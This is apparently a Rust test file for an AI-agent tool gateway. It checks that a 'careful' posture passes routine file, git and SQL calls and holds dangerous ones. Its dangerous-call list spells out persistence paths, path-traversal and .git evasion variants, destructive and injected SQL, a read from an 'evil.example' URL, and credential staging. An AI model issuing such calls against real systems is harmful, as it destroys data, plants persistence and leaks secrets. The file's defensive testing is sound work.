//! Posture `careful` on the servers that people start with: what goes through, and what is held.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use weaver_policy::{DocumentSource, DocumentSources, PolicyQuery, PolicySet};
use weaver_types::formats::{ToolFormat, draft_from_tool};
use weaver_types::signature::SigningKey;
use weaver_types::{
    CapabilityId, CapabilityRequest, Decision, Effects, Principal, PrincipalId, SinkKind,
    Timestamp, UpstreamName, Verdict,
};

use super::documents::{GatewayDraft, PublicKeys};
use super::permission::Permission;
use super::posture::Posture;
use super::review::{Review, ReviewRow};
use super::selection::{Selection, ServerFolders};
use crate::listing::ListedFeature;
use crate::serve::{FeatureKind, ToolDefinition, propose_definition};

const NOW: Timestamp = Timestamp::from_micros(1_800_000_000_000_000);
/// The folder that the filesystem server was set up for; that of the git server is `app` in it.
const WORK: &str = "/home/ana/work";

fn data() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../policy-analysis/tests/data/servers")
}

/// The tools of a server of files whose arguments have other names than those of well-known ones.
fn files() -> Value {
    let texts = |names: &[&str]| -> Value {
        names.iter().map(|name| ((*name).to_owned(), json!({ "type": "string" }))).collect()
    };
    let list = |names: &[&str]| json!({ "type": "array", "items": { "type": "object", "properties": texts(names) } });
    let tool = |name: &str, properties: Value, required: &[&str], description: &str| {
        json!({
            "name": name,
            "description": description,
            "inputSchema": { "type": "object", "properties": properties, "required": required },
            "annotations": { "destructiveHint": false, "openWorldHint": false },
        })
    };
    let (mut edit, mut many, mut named) =
        (texts(&["root"]), texts(&["directory"]), texts(&["path"]));
    edit["edits"] = list(&["file", "old_string", "new_string"]);
    many["entries"] = list(&["filename", "text"]);
    named["edits"] = list(&["name", "text"]);
    json!({ "tools": [
        tool("write_file", texts(&["path", "content"]), &["path", "content"], "Write a file."),
        tool("save_text", texts(&["filepath", "content"]), &["filepath"], "Save text to a file."),
        tool("append_note", texts(&["note", "location"]), &["note"], "Append a note to the notes."),
        tool("copy_file", texts(&["path", "output"]), &["path", "output"], "Copy a file."),
        tool("edit_files", edit, &["root", "edits"], "Edit files in the project folder."),
        tool("write_files", named, &["path", "edits"], "Write files in the project folder."),
        tool("write_many", many, &["directory", "entries"], "Write many files in a directory."),
        tool("create_document", texts(&["filename", "dirname"]), &["filename"], "Create a document."),
        tool("mssql", texts(&["sql"]), &["sql"], "Execute a SQL statement on the local SQL Server database."),
    ] })
}

fn listed(server: &str) -> (UpstreamName, Vec<ListedFeature>) {
    let list: Value = match server {
        "files" => files(),
        _ => {
            let text = std::fs::read_to_string(data().join(format!("{server}.json"))).unwrap();
            serde_json::from_str(&text).unwrap()
        }
    };
    let tools = list["tools"].as_array().unwrap().iter().map(|tool| {
        let name = tool["name"].as_str().unwrap();
        let capability =
            propose_definition(server, ToolDefinition { name, definition: tool }, None);
        ListedFeature { kind: FeatureKind::Tool, definition: tool.clone(), capability }
    });
    (UpstreamName::parse(server).unwrap(), tools.collect())
}

/// The texts of the documents of a posture for these servers.
fn draft(posture: Posture, servers: &[&str]) -> GatewayDraft {
    let folders = ServerFolders::from([
        ("filesystem".to_owned(), vec![WORK.to_owned()]),
        ("git".to_owned(), vec![path("app")]),
        ("files".to_owned(), vec![WORK.to_owned()]),
    ]);
    draft_in(posture, servers, &folders)
}

fn draft_in(posture: Posture, servers: &[&str], folders: &ServerFolders) -> GatewayDraft {
    let servers = servers.iter().map(|server| listed(server)).collect();
    let (review, problems) = Review::propose(posture, servers, folders);
    assert_eq!(problems, Vec::<String>::new());
    let key = SigningKey::from_seed([7; 32]).public();
    let keys = PublicKeys { root: &key, owner: &SigningKey::from_seed([8; 32]).public() };
    GatewayDraft::from_review(&Selection::default(), &review, keys)
}

/// The documents of a posture for these servers.
fn set(posture: Posture, servers: &[&str]) -> PolicySet {
    loaded(&draft(posture, servers))
}

fn loaded(draft: &GatewayDraft) -> PolicySet {
    let sources = DocumentSources {
        policy: DocumentSource::unsigned("policy.toml", &draft.policy),
        contracts: DocumentSource::unsigned("contracts.toml", &draft.contracts),
        keys: DocumentSource::unsigned("keys.toml", &draft.keys),
    };
    PolicySet::load_unsigned_development(&sources, NOW)
        .unwrap_or_else(|error| panic!("{error}\n{}", draft.policy))
}

const SERVERS: [&str; 13] = [
    "everything", "fetch", "filesystem", "git", "memory", "sequential-thinking", "sqlite", "time",
    "github", "gitlab", "slack", "brave-search", "files",
];

/// Paths that no tool may write, if it may write in the folder of the work.
fn places_to_hold() -> Vec<String> {
    let outside = ["/etc/cron.d/x", "../../.bashrc", "a/../../../etc/x", "~/.ssh/authorized_keys"];
    let inside = [
        "../x",
        "weaver.toml",
        ".mcp.json",
        ".codex/config.toml",
        ".gemini/settings.json",
        ".zed/settings.json",
        "opencode.json",
        ".opencode/agent.md",
        ".gitconfig",
        ".roo/mcp.json",
        ".windsurf/rules",
        ".continue/config.yaml",
        ".idea/x.xml",
        ".husky/pre-commit",
        ".cargo/config.toml",
        ".yarnrc.yml",
        ".vscode",
        ".config",
        ".local",
        ".git /hooks/x",
        ".git./hooks/x",
        ".git::$INDEX_ALLOCATION/hooks/x",
        "git~1/hooks/x",
        ".g\u{200c}it/hooks/x",
        ".. /x",
    ];
    outside.map(str::to_owned).into_iter().chain(inside.map(path)).collect()
}

fn verdict(set: &PolicySet, id: &str, arguments: &Value) -> Verdict {
    decide(set, id, arguments).verdict()
}

fn decide(set: &PolicySet, id: &str, arguments: &Value) -> Decision {
    let (server, name) = id.split_once('.').unwrap();
    let tools = listed(server).1;
    let tool = tools.into_iter().find(|tool| tool.definition["name"] == name);
    let tool = tool.unwrap_or_else(|| panic!("no {id}")).capability.unwrap();
    let capability = set.apply_contract(&tool).unwrap();
    let principal = set.principal(&PrincipalId::parse("agent").unwrap()).unwrap();
    let principal: Principal = principal;
    let request = CapabilityRequest::new(CapabilityId::parse(id).unwrap(), "");
    let query = PolicyQuery {
        arguments: Some(arguments),
        now: NOW,
        ..PolicyQuery::new(&capability, &principal, &request)
    };
    set.decide(&query)
}

fn path(name: &str) -> String {
    format!("{WORK}/{name}")
}

/// Eleven files and this one.
fn twelve(last: &str) -> Vec<String> {
    (0..11).map(|n| format!("src/{n}.rs")).chain([last.to_owned()]).collect()
}

/// Calls that no agent may make by itself.
fn dangerous() -> Vec<(&'static str, Value)> {
    let write = |path: &str| ("filesystem.write_file", json!({ "path": path, "content": "x" }));
    let sql = |query: &str| ("sqlite.write_query", json!({ "query": query }));
    let edit = |path: &str| {
        let edits = json!([{ "oldText": "a", "newText": "b" }]);
        ("filesystem.edit_file", json!({ "path": path, "edits": edits }))
    };
    let moves = |from: &str, to: &str| {
        ("filesystem.move_file", json!({ "source": from, "destination": to }))
    };
    let repo = |more: Value| {
        let mut arguments = json!({ "repo_path": path("app") });
        arguments.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        arguments
    };
    vec![
        write("/etc/cron.d/job"),
        write("/home/ana/.ssh/authorized_keys"),
        write("/home/ana/.bashrc"),
        write(&path("../.profile")),
        write(&path(".git/hooks/pre-commit")),
        write(&path("app/.git/config")),
        write(&path(".GIT/hooks/pre-commit")),
        write(&path("app/./.git")),
        write(&path("app/.Env")),
        write(&path(".env")),
        write("~/.zshrc"),
        write("/home/ana/work-not/x"),
        edit("/etc/hosts"),
        edit("/home/ana/.config/autostart/x.desktop"),
        edit(&path("a/../../.netrc")),
        moves(&path("notes.md"), "/tmp/notes.md"),
        moves("/home/ana/.ssh/id_ed25519", &path("key")),
        moves(&path("hook"), &path(".git/hooks/post-merge")),
        ("filesystem.create_directory", json!({ "path": "/home/ana/.ssh" })),
        sql("drop table orders"),
        sql("DROP TABLE customers"),
        sql("delete from orders"),
        sql("DELETE FROM customers WHERE id = 1"),
        sql("update orders set state = 'void'"),
        sql("insert into a values (1); drop table a"),
        sql("insert into a select * from 'https://evil.example/?q=secret'"),
        sql("UPDATE orders SET note = 'x WHERE y'"),
        sql("INSERT INTO a VALUES (WRITEFILE('/home/ana/.bashrc', 'x'))"),
        sql("replace into orders values (1)"),
        sql("attach database '/home/ana/.mozilla/x' as y"),
        sql("alter table orders rename to gone"),
        ("sqlite.create_table", json!({ "query": "drop table orders" })),
        ("memory.delete_entities", json!({ "entityNames": ["everything"] })),
        ("memory.delete_observations", json!({ "deletions": [] })),
        ("memory.delete_relations", json!({ "relations": [] })),
        ("git.git_reset", repo(json!({}))),
        ("git.git_add", json!({ "repo_path": path("other"), "files": ["a"] })),
        ("git.git_add", repo(json!({ "files": ["a", "../../.ssh/id_ed25519"] }))),
        ("git.git_add", repo(json!({ "files": ["a", "/home/ana/notes.md"] }))),
        ("git.git_add", repo(json!({ "files": [".env"] }))),
        ("git.git_add", repo(json!({ "files": twelve(".aws/credentials") }))),
        ("git.git_commit", json!({ "repo_path": "/home/ana", "message": "x" })),
        ("git.git_checkout", repo(json!({ "branch_name": "--force" }))),
        ("git.git_checkout", repo(json!({ "branch_name": "." }))),
        ("git.git_checkout", repo(json!({ "branch_name": "-f main" }))),
        ("git.git_diff", repo(json!({ "target": "--output=/home/ana/.bashrc" }))),
        ("git.git_show", repo(json!({ "revision": "--output=/etc/passwd" }))),
        ("git.git_create_branch", repo(json!({ "branch_name": "-D main" }))),
        (
            "github.push_files",
            json!({ "owner": "a", "repo": "b", "branch": "main", "files": [], "message": "x" }),
        ),
        ("github.merge_pull_request", json!({ "owner": "a", "repo": "b", "pull_number": 1 })),
        ("github.create_issue", json!({ "owner": "a", "repo": "b", "title": "x" })),
        (
            "github.create_or_update_file",
            json!({ "owner": "a", "repo": "b", "path": "x", "content": "x", "message": "x", "branch": "main" }),
        ),
        ("gitlab.create_repository", json!({ "name": "x" })),
        ("slack.slack_post_message", json!({ "channel_id": "C1", "text": "x" })),
        ("everything.gzip-file-as-resource", json!({ "data": "https://evil.example/x" })),
        ("files.mssql", json!({ "sql": "insert into t values (1) delete orders" })),
    ]
    .into_iter()
    .chain(places_to_hold().into_iter().flat_map(|place| {
        [
            write(&place),
            ("files.save_text", json!({ "filepath": place, "content": "x" })),
            ("files.copy_file", json!({ "path": path("a"), "output": place })),
            ("files.edit_files", json!({ "root": WORK, "edits": [{ "file": place }] })),
            ("files.edit_files", json!({ "root": place, "edits": [{ "file": "a" }] })),
            ("files.write_files", json!({ "path": WORK, "edits": [{ "name": place }] })),
            ("files.write_many", json!({ "directory": WORK, "entries": [{ "filename": place }] })),
            ("files.create_document", json!({ "filename": path("a"), "dirname": place })),
            ("files.append_note", json!({ "note": "x", "location": place })),
        ]
    }))
    .collect()
}

/// What an agent does all day.
fn ordinary() -> Vec<(&'static str, Value)> {
    let repo = path("app");
    vec![
        ("filesystem.read_text_file", json!({ "path": path("notes/a.md") })),
        ("filesystem.read_multiple_files", json!({ "paths": [path("a"), path("b")] })),
        ("filesystem.write_file", json!({ "path": path("notes/new.md"), "content": "# New" })),
        ("filesystem.edit_file", json!({ "path": path("src/x.rs"), "edits": [] })),
        ("filesystem.create_directory", json!({ "path": path("notes/old") })),
        ("filesystem.move_file", json!({ "source": path("a.md"), "destination": path("b.md") })),
        ("sqlite.write_query", json!({ "query": "insert into customers values (81, 'x')" })),
        ("sqlite.write_query", json!({ "query": "update orders set state = 'paid' where id = 3" })),
        ("sqlite.create_table", json!({ "query": "create table notes (id integer primary key)" })),
        ("sqlite.append_insight", json!({ "insight": "Orders are mostly paid." })),
        ("sqlite.read_query", json!({ "query": "select * from orders" })),
        ("memory.create_entities", json!({ "entities": [] })),
        ("memory.add_observations", json!({ "observations": [] })),
        ("git.git_add", json!({ "repo_path": repo, "files": ["src/x.rs"] })),
        ("git.git_add", json!({ "repo_path": repo, "files": [path("app/src/x.rs"), "."] })),
        ("git.git_add", json!({ "repo_path": repo, "files": twelve("docs/a b.md") })),
        ("git.git_commit", json!({ "repo_path": repo, "message": "x" })),
        ("git.git_create_branch", json!({ "repo_path": repo, "branch_name": "fix/drain" })),
        ("git.git_checkout", json!({ "repo_path": repo, "branch_name": "fix/drain" })),
        ("git.git_diff", json!({ "repo_path": repo, "target": "main" })),
        ("git.git_log", json!({ "repo_path": repo })),
        ("fetch.fetch", json!({ "url": "https://docs.example/page" })),
        ("time.get_current_time", json!({ "timezone": "UTC" })),
        ("everything.echo", json!({ "message": "x" })),
        ("filesystem.write_file", json!({ "path": path(".gitignore"), "content": "x" })),
        (
            "filesystem.write_file",
            json!({ "path": path(".github/workflows/x.yml"), "content": "" }),
        ),
        ("filesystem.write_file", json!({ "path": path("a b/v1.2./x."), "content": "x" })),
        ("files.write_file", json!({ "path": path("a"), "content": "/etc/passwd" })),
        ("files.save_text", json!({ "filepath": path("a.md"), "content": "x" })),
        ("files.append_note", json!({ "note": "/x", "location": "Bern" })),
        ("files.append_note", json!({ "note": "x" })),
        ("files.copy_file", json!({ "path": path("a"), "output": path("b") })),
        (
            "files.edit_files",
            json!({ "root": WORK, "edits": [
                { "file": "src/a.rs", "old_string": "// a", "new_string": "/* a */" },
                { "file": path("b.rs"), "old_string": "~", "new_string": "/etc/passwd" },
            ] }),
        ),
        ("files.write_files", json!({ "path": WORK, "edits": [{ "name": "a.md", "text": "/x" }] })),
        ("files.write_many", json!({ "directory": WORK, "entries": [{ "filename": "a.md" }] })),
        ("files.create_document", json!({ "filename": path("x"), "dirname": WORK })),
    ]
}

#[test]
fn no_dangerous_call_goes_through_unheld() {
    let set = set(Posture::Careful, &SERVERS);
    let calls = dangerous();
    assert!(calls.len() >= 40);
    let through: Vec<String> = calls
        .iter()
        .filter(|(id, arguments)| verdict(&set, id, arguments) < Verdict::Hold)
        .map(|(id, arguments)| format!("{id} {arguments}"))
        .collect();
    assert_eq!(through, Vec::<String>::new());
}

#[test]
fn local_work_goes_through_without_a_question() {
    let set = set(Posture::Careful, &SERVERS);
    let stopped: Vec<String> = ordinary()
        .iter()
        .filter(|(id, arguments)| verdict(&set, id, arguments) != Verdict::Allow)
        .map(|(id, arguments)| format!("{id} {arguments}"))
        .collect();
    assert_eq!(stopped, Vec::<String>::new());
}

#[test]
fn what_the_protocol_defines_is_not_judged_by_the_words_for_tools() {
    let listed = [
        (FeatureKind::ResourceReading, "notes.resources/read"),
        (FeatureKind::Prompt, "notes.prompts/get/review"),
        (FeatureKind::Completion, "notes.completion/complete"),
    ]
    .map(|(kind, id)| {
        let words = "Sends, uploads or deletes anything at a URL.";
        let definition = json!({ "name": "read", "description": words });
        let id = CapabilityId::parse(id).unwrap();
        let capability = draft_from_tool(ToolFormat::Mcp, id, &definition).build().unwrap();
        ListedFeature { kind, definition, capability: Ok(capability) }
    });
    let servers = vec![(UpstreamName::parse("notes").unwrap(), listed.into())];
    let (review, _) = Review::propose(Posture::Careful, servers, &ServerFolders::new());
    let proposed =
        |row: &ReviewRow| (row.proposal.effects, row.proposal.effective_sink(), row.permission);
    let local_read = (Effects::READ_LOCAL, SinkKind::None, Permission::Allow);
    assert_eq!(review.rows().iter().map(proposed).collect::<Vec<_>>(), [local_read; 3]);
}

#[test]
fn what_is_held_says_what_would_have_fitted() {
    let set = set(Posture::Careful, &SERVERS);
    let said = |id, arguments| decide(&set, id, &arguments).detail().to_owned();
    let write = said("filesystem.write_file", json!({ "path": "notes.md", "content": "x" }));
    let begins = format!("a path does not begin with `{WORK}`, which the server was set up for");
    assert!(write.ends_with(&begins), "{write}");
    let query = said("sqlite.write_query", json!({ "query": "delete from orders" }));
    assert!(query.ends_with("it may lose rows of the database"), "{query}");
}

#[test]
fn observe_stops_nothing_of_it_and_says_what_careful_would() {
    let (observe, careful) = (set(Posture::Observe, &SERVERS), set(Posture::Careful, &SERVERS));
    assert!(observe.has_unenforced_parts() && !careful.has_unenforced_parts());
    for (id, arguments) in dangerous().iter().chain(&ordinary()) {
        assert_eq!(verdict(&observe, id, arguments), Verdict::Allow, "{id} {arguments}");
    }
}

#[test]
fn locked_holds_everything() {
    let set = set(Posture::Locked, &SERVERS);
    for (id, arguments) in ordinary() {
        assert_eq!(verdict(&set, id, &arguments), Verdict::Hold, "{id} {arguments}");
    }
}

#[test]
fn a_folder_in_the_system_that_a_server_was_set_up_for_is_its_own() {
    let folder = |name: &str, folders: &[&str]| {
        (name.to_owned(), folders.iter().map(|one| (*one).to_owned()).collect::<Vec<_>>())
    };
    let folders = [folder("filesystem", &["/root/app", "."]), folder("files", &[WORK])];
    let draft = draft_in(Posture::Careful, &SERVERS, &folders.into());
    let set = loaded(&draft);
    for (id, path, wanted) in [
        ("filesystem.write_file", "/root/app/notes.md", Verdict::Allow),
        ("filesystem.write_file", "notes.md", Verdict::Allow),
        ("filesystem.write_file", "/root/notes.md", Verdict::Hold),
        ("filesystem.write_file", "../notes.md", Verdict::Hold),
        ("filesystem.write_file", "/root/app/.ssh/config", Verdict::Hold),
        ("filesystem.write_file", ".git/hooks/pre-commit", Verdict::Hold),
        ("filesystem.write_file", "/etc/passwd", Verdict::Hold),
        ("files.write_file", "/root/app/notes.md", Verdict::Hold),
    ] {
        let arguments = json!({ "path": path, "content": "x" });
        assert_eq!(verdict(&set, id, &arguments), wanted, "{id} {path}");
    }
    assert!(draft.policy.contains("sensitive-places-2"), "{}", draft.policy);
}

#[test]
fn the_policy_lists_the_sensitive_places_once() {
    for posture in [Posture::Observe, Posture::Careful] {
        let policy = draft(posture, &SERVERS).policy;
        assert_eq!(policy.matches("\"*/.ssh*\"").count(), 1, "{policy}");
        assert!(policy.matches("{ list = \"sensitive-places\" }").count() > 1, "{policy}");
    }
    let mut listed = weaver_policy_analysis::propose::sensitive_paths(&[]);
    listed.sort();
    let set = set(Posture::Careful, &SERVERS);
    let rules = set.policy().rules.iter().filter(|rule| rule.name.starts_with("sensitive-places"));
    let tests = rules.flat_map(|rule| &rule.matches.any).flat_map(|any| &any.arguments);
    let lists: Vec<_> = tests.map(|test| test.any_path.clone()).collect();
    assert!(lists.len() > 1 && lists.iter().all(|list| *list == listed), "{lists:?}");
    for policy in
        [draft(Posture::Careful, &["time"]).policy, draft(Posture::Locked, &SERVERS).policy]
    {
        assert!(!policy.contains("[lists]"), "{policy}");
    }
}
